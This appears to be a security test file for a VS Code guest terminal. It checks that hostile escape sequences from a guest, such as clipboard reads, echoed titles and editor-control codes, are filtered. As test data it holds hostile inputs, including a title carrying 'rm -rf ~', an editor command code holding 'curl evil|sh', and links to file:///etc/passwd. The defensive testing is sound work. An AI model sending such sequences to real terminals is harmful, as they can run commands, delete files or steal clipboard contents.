import { PassThrough, Writable } from 'node:stream';
import { expect, vi } from 'vitest';
import { silentLog } from '../../../src/core/log';
import type { GuestProcess } from '../../../src/guest/guest';
import { attack } from '../attack';

/** As much of VS Code as a terminal needs. */
vi.mock('vscode', () => ({
  EventEmitter: class<T> {
    private readonly listeners: ((value: T) => void)[] = [];
    readonly event = (listener: (value: T) => void) => void this.listeners.push(listener);
    fire(value: T): void {
      for (const listener of this.listeners) {
        listener(value);
      }
    }
  },
  l10n: { t: (text: string) => text },
}));

const { GuestPseudoterminal } = await import('../../../src/attach/guestPseudoterminal');

/** Runs a terminal whose program prints `pieces`; what VS Code's terminal is given, and what the program was told. */
async function show(pieces: string[], typed: string[] = []) {
  const stdout = new PassThrough();
  let exit: (status: { code: number }) => void = () => undefined;
  const process = {
    stdout,
    stderr: new PassThrough(),
    // A program that never reads.
    stdin: new Writable({ highWaterMark: 1024, write: () => undefined }),
    exited: new Promise<{ code: number }>((resolve) => {
      exit = resolve;
    }),
    resize: () => undefined,
    signal: () => undefined,
    dispose: () => undefined,
  } as unknown as GuestProcess;
  const terminal = new GuestPseudoterminal(async () => process, silentLog, { keepOpen: false });
  let shown = '';
  terminal.onDidWrite((text) => {
    shown += text;
  });
  const closed = new Promise((resolve) => terminal.onDidClose(resolve));
  terminal.open({ columns: 80, rows: 24 });
  await new Promise(setImmediate);
  for (const text of typed) {
    terminal.handleInput(text);
  }
  for (const piece of pieces) {
    stdout.write(piece);
    await new Promise(setImmediate);
  }
  stdout.end();
  exit({ code: 0 });
  await closed;
  return { shown, unread: process.stdin.writableLength };
}

attack(
  {
    id: 'terminal-clipboard',
    from: 'guest',
    tries:
      'Escape codes that read or write the clipboard, whole, cut into single bytes, in 8-bit form and wrapped in others.',
    holds: 'They never reach the editor’s terminal; the text around them does.',
    promise: 'terminal-filtered',
  },
  async () => {
    const codes = [
      '\x1b]52;c;?\x07',
      '\x1b]52;c;aGk=\x1b\\',
      '\u009d52;p;?\u009c',
      '\x1bPtmux;\x1b\x1b]52;c;?\x07\x1b\\',
      '\x1b]0;x\x1b]52;;?\x07',
      '\x1b[1\x1b]52;c;?\x07',
    ].map((code) => `a${code}b`);
    for (const pieces of [codes, codes.flatMap((code) => code.split(''))]) {
      const { shown } = await show(pieces);
      expect(shown).not.toContain('\x1b]52');
      // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what must not be there
      expect(shown).not.toMatch(/[\u0080-\u009f]|\x1bP/);
      expect(shown.match(/a/g)?.length).toBeGreaterThanOrEqual(codes.length);
    }
    return `${codes.length} ways, none came through`;
  },
);

attack(
  {
    id: 'terminal-answers',
    from: 'guest',
    tries:
      'Questions whose answers are typed into the guest’s shell (title, DECRQSS, XTGETTCAP), and others without end that are never read.',
    holds:
      'Answers with text of the guest are not asked for; what waits for a program that does not read is bounded.',
    promise: 'terminal-filtered',
  },
  async () => {
    const { shown } = await show(['\x1b]2;; rm -rf ~ #\x07\x1b[21t\x1bP$qm\x1b\\\x1bP+q544e\x1b\\\x05']);
    expect(shown).toBe('\x1b]2;; rm -rf ~ #\x1b\\');
    const answers = Array.from({ length: 500 }, () => 'x'.repeat(10_000));
    const { unread } = await show([], answers);
    expect(unread).toBeLessThan(1_100_000);
    return `${unread} of ${answers.length * 10_000} typed bytes kept`;
  },
);

attack(
  {
    id: 'terminal-editor',
    from: 'guest',
    tries:
      'Escape codes that tell the editor a folder or command, open host links, draw images, notify, or loop two billion times.',
    holds: 'Dropped; links stay only to http and https, numbers end at 9999, titles are one plain line.',
    promise: 'terminal-filtered',
  },
  async () => {
    const { shown } = await show([
      '\x1b]7;file:///etc\x07\x1b]633;E;curl evil|sh\x07\x1b]633;P;Cwd=/etc\x07\x1b]1337;File=inline=1:AAAA\x07\x1b]777;notify;a;b\x07',
      '\x1b]8;;vscode://x/run\x07click\x1b]8;;\x07\x1b]8;;file:///etc/passwd\x07click\x1b]8;;\x07',
      '\x1b[2147483647L\x1b]0;a\u202e\nb$(x)\x07',
    ]);
    expect(shown).toBe(
      '\x1b]8;;\x1b\\click\x1b]8;;\x1b\\\x1b]8;;\x1b\\click\x1b]8;;\x1b\\\x1b[9999L\x1b]0;ab$\u2060(x)\x1b\\',
    );
    return JSON.stringify(shown);
  },
);
